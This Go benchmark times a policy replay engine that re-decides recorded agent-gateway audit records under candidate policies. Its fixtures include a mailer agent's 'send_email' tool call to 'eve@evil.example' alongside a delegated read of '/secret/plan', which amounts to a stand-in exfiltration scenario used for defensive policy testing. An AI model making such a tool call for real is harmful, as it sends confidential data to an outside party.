package replay_test

import (
	"testing"
	"time"

	"github.com/meshguard/meshguard/audit"
	"github.com/meshguard/meshguard/replay"
)

// BenchmarkReplay is the replay core on records as a store gives them
// back: a tool call whose argument the candidate reads from the recorded
// arguments, a delegated read, a write at a recorded time. The store's
// decoding is not in it (see make bench-replay for the whole command).
func BenchmarkReplay(b *testing.B) {
	set := candidate(b, candidatePolicies)
	at := time.Date(2026, 3, 2, 14, 0, 0, 0, time.UTC)
	call := &audit.Call{Protocol: "mcp", Method: "tools/call", Name: "send_email", ArgumentsDigest: "x",
		Arguments: []byte(`{"to":"eve@evil.example","subject":"weekly report"}`)}
	recs := []audit.Record{
		{ID: "aud_1", Timestamp: at, AgentID: "agent_m", AgentName: "mailer", TrustTier: "verified", Action: "call:mail/send_email",
			Resource: "/mcp", Decision: "allow", Policy: "mail", Rule: "calls", Chain: []string{"agent_m"}, Source: "gateway", Call: call,
			Inputs: &audit.Inputs{Tags: []string{"mailer"}}},
		{ID: "aud_2", Timestamp: at, AgentID: "agent_m", AgentName: "mailer", TrustTier: "verified", Action: "read:secret/plan",
			Resource: "/secret/plan", Decision: "allow", Policy: "mail", Rule: "reads", Chain: []string{"agent_p", "agent_m"}, Source: "gateway",
			Inputs: &audit.Inputs{Tags: []string{"mailer"}, Chain: []audit.ChainMember{{Name: "planner", Tier: "trusted", Tags: []string{"planner"}}}}},
		{ID: "aud_3", Timestamp: at, AgentID: "agent_o", AgentName: "ops", TrustTier: "trusted", Action: "write:deploy",
			Resource: "/deploy", Decision: "allow", Policy: "ops", Rule: "office-hours", Chain: []string{"agent_o"}, Source: "gateway",
			Inputs: &audit.Inputs{Tags: []string{"ops"}}},
	}
	r, err := replay.New(set, replay.Options{})
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		r.Add(&recs[i%len(recs)])
		i++
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "records/s")
	if rep := r.Report(); rep.Redecided != b.N || rep.AllowToDeny == 0 {
		b.Fatalf("%+v", rep)
	}
}
